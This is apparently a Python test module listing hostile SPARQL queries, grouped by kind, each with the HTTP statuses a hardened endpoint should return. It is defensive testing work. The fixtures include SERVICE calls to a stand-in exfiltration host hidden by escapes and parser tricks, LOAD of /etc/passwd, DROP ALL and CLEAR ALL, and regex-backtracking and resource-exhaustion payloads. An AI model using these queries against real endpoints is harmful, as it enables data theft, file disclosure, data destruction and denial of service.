"""Queries that want too much or want out, by name, with the statuses that are right for each."""

from __future__ import annotations

from dataclasses import dataclass

from hostile.besieged import SECONDS

REFUSED = frozenset({400})
FORBIDDEN = frozenset({403})
TOO_LONG = frozenset({413})
ENDED = frozenset({503})
ANSWERED = frozenset({200})
ANSWERED_OR_ENDED = ANSWERED | ENDED
ANY = REFUSED | ANSWERED_OR_ENDED
"""For what a cleverer parser or engine may treat otherwise; nothing else is right."""

LONGEST = SECONDS + 6
"""Seconds after which every query must have an answer: its time, and a wait for a worker."""

LEAK = "https://leak.example/sparql"
P = "<https://data.example/def/near>"
TRIPLE = "?s ?p ?o"


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile query."""

    name: str
    text: str
    allowed: frozenset[int]
    is_long: bool = False
    """Whether it takes its whole time, so that the everyday suite leaves it out."""


def _nested(opening: str, closing: str, times: int, inner: str = TRIPLE) -> str:
    return f"SELECT * {{ {opening * times} {inner} {closing * times} }} LIMIT 1"


def _filter(expression: str) -> str:
    return f"SELECT * {{ {TRIPLE} FILTER({expression}) }} LIMIT 1"


NESTING = [
    case
    for times, name in ((50, "deep"), (3000, "abyss"))
    for allowed in (ANSWERED if times == 50 else REFUSED,)
    for case in (
        Case(f"braces-{name}", _nested("{", "}", times), allowed),
        Case(f"round-{name}", _filter(f"{'(' * times}1{')' * times}"), allowed),
        Case(f"not-{name}", _filter(f"{'!(' * times}true{')' * times}"), allowed),
        Case(f"functions-{name}", _filter(f"{'STR(' * times}?o{')' * times} != ''"), allowed),
        Case(f"optional-{name}", _nested("OPTIONAL {", "}", times), allowed),
        Case(f"exists-{name}", _nested("FILTER EXISTS {", "}", times), allowed),
        Case(f"not-exists-{name}", _nested("FILTER NOT EXISTS {", "}", times), allowed),
        Case(f"minus-{name}", _nested(f"{TRIPLE} MINUS {{", "}", times), allowed),
        Case(f"selects-{name}", _nested("{ SELECT * {", "} }", times // 2), allowed),
        Case(f"graphs-{name}", _nested("GRAPH ?g {", "}", times), allowed),
        Case(
            f"groups-of-path-{name}",
            f"ASK {{ ?s {'(' * times}{P}{')*' * times} ?o }}",
            ENDED if times == 50 else REFUSED,
            is_long=times == 50,
        ),
        Case(f"lists-{name}", f"ASK {{ {'(' * times}1{')' * times} }}", allowed),
        Case(f"blank-{name}", f"ASK {{ ?s ?p {'[ ?p ' * times}1{']' * times} }}", allowed),
        Case(f"triple-terms-{name}", f"ASK {{ ?s ?p {'<<(' * times}1{')>>' * times} }}", REFUSED),
        Case(f"never-closed-{name}", "ASK " + "{" * times, REFUSED),
        Case(f"only-closed-{name}", "ASK " + "}" * times, REFUSED),
    )
]

_LONG = 20_000
CHAINS = [
    Case("or", _filter("||".join(["?o = 1"] * 8000)), REFUSED),
    Case("and", _filter("&&".join(["?o = 1"] * 8000)), REFUSED),
    Case("sum", _filter("+".join(["1"] * _LONG) + " = 1"), REFUSED),
    Case("signs", _filter("-" * _LONG + "1 = 1"), REFUSED),
    Case("exclamations", _filter("!" * _LONG + "true"), REFUSED | ENDED),
    Case("comparisons", _filter("=".join(["1"] * _LONG)), REFUSED),
    Case("union", f"SELECT * {{ {' UNION '.join(['{ ?s ?p ?o }'] * 4000)} }} LIMIT 1", REFUSED),
    Case("optional", f"SELECT * {{ {'OPTIONAL { ?s ?p ?o } ' * 4000} }} LIMIT 1", REFUSED),
    Case("bind", f"SELECT * {{ {'BIND(1 AS ?x) ' * 4000} }}", REFUSED),
    Case("filter", f"ASK {{ {TRIPLE} {'FILTER(1=1) ' * 6000} }}", REFUSED),
    Case("path", f"ASK {{ ?s {'/'.join(['<x:p>'] * 8000)} ?o }}", REFUSED),
    Case("path-choice", f"ASK {{ ?s {'|'.join(['<x:p>'] * 8000)} ?o }}", REFUSED),
    Case("path-inverse", f"ASK {{ ?s {'^' * 5000}{P} ?o }}", REFUSED),
    Case("path-stars", f"ASK {{ ?s {P}{'*' * 5000} ?o }}", REFUSED),
    Case("path-marks", f"ASK {{ ?s {P}{'?' * 5000} ?o }}", REFUSED),
    Case("objects", f"ASK {{ ?s ?p {', '.join(['?o'] * 20_000)} }}", REFUSED),
    Case("groups", f"SELECT * {{ {'{ ?s ?p ?o } ' * 6000} }} LIMIT 1", ANY, is_long=True),
    Case("graphs", f"ASK {{ {'GRAPH ?g { } ' * 6000} }}", ANY, is_long=True),
    Case("values", f"ASK {{ {'VALUES ?x { 1 } ' * 5000} }}", ANY, is_long=True),
    Case("selects", f"ASK {{ {'{SELECT*{}} ' * 7000} }}", ANY),
    Case("triples", f"ASK {{ {'?s ?p ?o . ' * 8000} }}", ANY),
    Case(
        "apart",
        f"ASK {{ {''.join(f'?s{n} ?p{n} ?o{n}.' for n in range(3000))} }}",
        ANY,
        is_long=True,
    ),
    Case("brackets", f"ASK {{ {'[] ?p ?o . ' * 8000} }}", ANY, is_long=True),
    Case(
        "columns", f"SELECT {''.join(f'(1 AS ?x{n})' for n in range(5000))} {{}}", ANY, is_long=True
    ),
    Case("order", f"SELECT * {{ {TRIPLE} }} ORDER BY {'DESC(?o) ' * 8000}", ANY, is_long=True),
    Case("having", f"SELECT (1 AS ?x) {{}} HAVING {'(1=1) ' * 8000}", ANY, is_long=True),
    Case("prefixes", "PREFIX a: <x:> " * 6000 + "ASK {}", ANY),
    Case("graph-names", f"ASK {'FROM <x:g> ' * 8000} {{}}", ANY),
    Case("endless-name", f"ASK {{ ?s <x:{'a' * 90_000}> ?o }}", ANSWERED),
    Case("endless-variable", f"ASK {{ ?{'a' * 90_000} ?p ?o }}", ANSWERED),
    Case("endless-number", _filter(f"?o = {'9' * 90_000}"), ANSWERED | REFUSED),
    Case("too-long", f"ASK {{ ?s ?p '{'a' * 100_001}' }}", TOO_LONG),
]

_HUGE = " ".join(f"<x:{n}>" for n in range(10_000))
GROWTH = [
    Case("values", f"SELECT * {{ VALUES ?s {{ {_HUGE} }} ?s ?p ?o }}", ANSWERED_OR_ENDED),
    Case(
        "values-squared",
        f"SELECT (COUNT(*) AS ?n) {{ VALUES ?a {{ {_HUGE[:45_000].rpartition(' ')[0]} }} "
        f"VALUES ?b {{ {_HUGE[:45_000].rpartition(' ')[0]} }} }}",
        ANSWERED_OR_ENDED,
        is_long=True,
    ),
    Case(
        "in",
        _filter(f"?o IN ({_HUGE.replace(' ', ',')[:400]}>)".replace(",<x:10>)", ")")),
        ANSWERED | REFUSED,
    ),
    Case("in-many", _filter(f"?o IN ({','.join(['1'] * 40_000)})"), ANY),
    Case(
        "concat-doubles",
        "SELECT (STRLEN(?z) AS ?n) { BIND('aaaaaaaaaaaaaaaa' AS ?x0) "
        + " ".join(f"BIND(CONCAT(?x{n},?x{n}) AS ?x{n + 1})" for n in range(40))
        + " BIND(?x40 AS ?z) }",
        ANSWERED_OR_ENDED,
    ),
    Case(
        "replace-grows",
        "SELECT (STRLEN(?z) AS ?n) { BIND('aaaaaaaaaaaaaaaa' AS ?x0) "
        + " ".join(f"BIND(REPLACE(?x{n},'a','aaaaaaaaaaaaaaaa') AS ?x{n + 1})" for n in range(9))
        + " BIND(?x9 AS ?z) }",
        ANY,
    ),
    Case(
        "group-concat",
        "SELECT (GROUP_CONCAT(CONCAT(STR(?a),STR(?b),STR(?c))) AS ?x) "
        "{ ?a ?p ?o . ?b ?q ?r . ?c ?t ?u }",
        ENDED,
    ),
    Case(
        "distinct",
        "SELECT DISTINCT ?a ?b ?c ?d { ?a ?p ?o . ?b ?q ?r . ?c ?t ?u . ?d ?v ?w } "
        "OFFSET 900000000",
        ENDED,
        is_long=True,
    ),
    Case(
        "sorted", "SELECT * { ?a ?p ?o . ?b ?q ?r . ?c ?t ?u } ORDER BY RAND()", ENDED, is_long=True
    ),
    Case(
        "construct",
        "CONSTRUCT { ?a ?q ?c } { ?a ?p ?o . ?b ?q ?r . ?c ?t ?u }",
        ANSWERED_OR_ENDED,
        is_long=True,
    ),
    Case(
        "offset",
        "SELECT * { ?a ?p ?o . ?b ?q ?r . ?c ?t ?u } OFFSET 9223372036854775807",
        ENDED,
        is_long=True,
    ),
    Case("limit", "SELECT * { ?s ?p ?o } LIMIT 99999999999999999999999", REFUSED),
    Case("counted-path", "SELECT * { ?s <x:p>{1,100000} ?o }", REFUSED),
]

ENDLESS = [
    Case("product", "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }", ENDED),
    Case(
        "product-of-exists",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER NOT EXISTS { ?g ?h ?i . ?j ?k ?l "
        "FILTER(?g != ?g) } }",
        ENDED,
        is_long=True,
    ),
    Case(
        "path-both-ways",
        f"SELECT (COUNT(*) AS ?n) {{ ?a ({P}|^{P})* ?b . ?c ({P}|^{P})* ?d }}",
        ENDED,
    ),
    Case(
        "path-of-paths",
        f"SELECT (COUNT(*) AS ?n) {{ ?a ((({P}*/{P}*)*/^{P}*)*|!<x:p>)* ?b }}",
        ANSWERED_OR_ENDED,
        is_long=True,
    ),
    Case(
        "path-chain",
        f"SELECT (COUNT(*) AS ?n) {{ ?a {'/'.join([P] * 40)} ?b }}",
        ENDED,
        is_long=True,
    ),
    Case("list", f"ASK {{ ({'1 ' * 45_000}) ?p ?o }}", ANY),
    Case(
        "list-of-variables", f"ASK {{ ({' '.join(f'?v{n}' for n in range(12_000))}) ?p ?o }}", ANY
    ),
    Case("lists", f"ASK {{ {'(1 2) ?p ?o . ' * 6000} }}", ANY),
    Case(
        "expression-bomb",
        "SELECT (SUM(STRLEN(REPLACE(CONCAT(STR(?a),STR(?c),STR(?e)),'.','ab')))"
        " AS ?n) { ?a ?b ?c . ?d ?q ?e . ?f ?g ?h }",
        ENDED,
        is_long=True,
    ),
]

_A = "a" * 5000
BOMBS = [
    Case("nested-plus", _filter(f"REGEX('{_A}!', '^(a+)+$')"), ANSWERED),
    Case("nested-star", _filter(f"REGEX('{_A}!', '(a*)*b')"), ANSWERED),
    Case("choice", _filter(f"REGEX('{_A}!', '^(a|aa)+$')"), ANSWERED),
    Case("dots", _filter(f"REGEX('{_A}', '{'.*' * 300}b')"), ANSWERED_OR_ENDED),
    Case("counted", _filter("REGEX(STR(?o), '((a{1,1000}){1,1000}){1,1000}')"), ANY),
    Case("unicode", _filter("REGEX(STR(?o), '" + r"\\\\w{500}" * 300 + "')"), ANY),
    Case(
        "nested",
        _filter(f"REGEX('a', '{'(' * 20_000}a{')' * 20_000}')"),
        ANSWERED_OR_ENDED,
        is_long=True,
    ),
    Case("replace", _filter(f"REPLACE('{_A}', '(a*)*', '$0$0$0$0') = ''"), ANSWERED_OR_ENDED),
    Case(
        "each-its-own",
        "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i "
        "FILTER(REGEX(STR(?c), CONCAT('(', STR(?f), '|x{1,90}){9}', STR(?a)))) }",
        ENDED,
        is_long=True,
    ),
]

_CALL = f"<{LEAK}> {{ ?s ?p ?o }}"
SERVICES = [
    Case(name, text, FORBIDDEN)
    for name, text in {
        "plain": f"SELECT * {{ SERVICE {_CALL} }}",
        "silent": f"SELECT * {{ SERVICE SILENT {_CALL} }}",
        "mixed-case": f"SELECT * {{ sErViCe silent {_CALL} }}",
        "no-spaces": f"SELECT*{{SERVICE{_CALL}}}",
        "behind-number": f"SELECT * {{ ?a ?b 1.SERVICE {_CALL} }}",
        "behind-exponent": f"SELECT * {{ ?a ?b 1e1SERVICE {_CALL} }}",
        "behind-text": f"SELECT * {{ ?a ?b 'x'SERVICE {_CALL} }}",
        "behind-true": f"SELECT * {{ ?a ?b trueSERVICE {_CALL} }}",
        "behind-less-than": f"SELECT * {{ ?a ?b ?c FILTER(?a<?b)SERVICE#>\n{_CALL} }}",
        "behind-comment": f"SELECT * {{ # harmless\rSERVICE {_CALL} }}",
        "comment-inside": f"SELECT * {{ SERVICE#{'x' * 99}\n{_CALL} }}",
        "behind-quote-escape": f"SELECT * {{ ?a ?b '\\\\' . SERVICE {_CALL} }}",
        "behind-long-text": f'SELECT * {{ ?a ?b """a\\"""" . SERVICE {_CALL} }}',
        "escaped-letter": f"SELECT * {{ \\u0053ERVICE {_CALL} }}",
        "escaped-long": f"SELECT * {{ \\U00000053ERVICE {_CALL} }}",
        "escaped-whole": "SELECT * { "
        + "".join(f"\\u{ord(x):04x}" for x in "SERVICE")
        + f" {_CALL} }}",
        "escaped-quote": f"SELECT * {{ ?a ?b 'c\\u0027 . SERVICE {_CALL} BIND('\\u0027 AS ?d) }}",
        "escaped-line-end": f"SELECT * {{ # \\u000ASERVICE {_CALL} }}",
        "sub-select": f"SELECT * {{ {{ SELECT * {{ SERVICE {_CALL} }} }} }}",
        "in-exists": f"ASK {{ FILTER EXISTS {{ SERVICE {_CALL} }} }}",
        "in-construct": f"CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE {_CALL} }}",
        "in-describe": f"DESCRIBE ?s {{ SERVICE {_CALL} }}",
        "in-graph": f"ASK {{ GRAPH ?g {{ SERVICE {_CALL} }} }}",
        "variable": "SELECT * { SERVICE ?x { ?s ?p ?o } }",
        "prefixed": "PREFIX l: <https://leak.example/> SELECT * { SERVICE l:sparql { ?s ?p ?o } }",
    }.items()
]

UPDATES = [
    Case(text.split()[0].lower() + f"-{number}", text, FORBIDDEN)
    for number, text in enumerate(
        [
            "LOAD <file:///etc/passwd>",
            f"LOAD SILENT <{LEAK}> INTO GRAPH <x:g>",
            "INSERT DATA { <x:a> <x:b> <x:c> }",
            "DELETE WHERE { ?s ?p ?o }",
            "CLEAR ALL",
            "DROP ALL",
            "CREATE GRAPH <x:g>",
            "COPY DEFAULT TO <x:g>",
            "WITH <x:g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
        ]
    )
] + [
    Case("behind-a-query", "ASK {} ; LOAD <file:///etc/passwd>", REFUSED),
    Case("escaped-load", "\\u004COAD <file:///etc/passwd>", REFUSED | FORBIDDEN),
    Case("escaped-insert", "\\u0049NSERT DATA { <x:a> <x:b> <x:c> }", REFUSED | FORBIDDEN),
]

STRANGE = [
    Case("null", "ASK { ?s ?p '\0' }", ANSWERED | REFUSED),
    Case("nothing-but-nulls", "\0" * 5000, REFUSED),
    Case("surrogate-escape", "ASK { ?s ?p '\\uD800' }", REFUSED),
    Case("beyond-unicode", "ASK { ?s ?p '\\UFFFFFFFF' }", REFUSED),
    Case("marks-of-direction", "ASK { \u202e?s ?p ?o\u202c }", REFUSED),
    Case("byte-order-mark", "\ufeffASK {}", ANSWERED | REFUSED),
    Case("quote-marks", "'" * 50_000, REFUSED),
    Case("open-text", 'ASK { ?s ?p """' + "a" * 50_000, REFUSED),
    Case("backslashes", "\\" * 50_000, REFUSED),
    Case("escapes", "\\u0020" * 15_000, REFUSED),
    Case(
        "date",
        _filter("'99999999999999999999-01-01'^^<http://www.w3.org/2001/XMLSchema#date> < NOW()"),
        ANSWERED,
    ),
    Case("division", "SELECT (1/0 AS ?x) (-9223372036854775808/-1 AS ?y) {}", ANSWERED),
    Case("overflow", "SELECT (9223372036854775807*9223372036854775807 AS ?x) {}", ANSWERED),
    Case(
        "substring",
        "SELECT (SUBSTR('abc', -9223372036854775807, 9223372036854775807) AS ?x) {}",
        ANSWERED,
    ),
    Case("unknown-function", _filter("<http://www.w3.org/ns/x#system>('id')"), REFUSED),
]
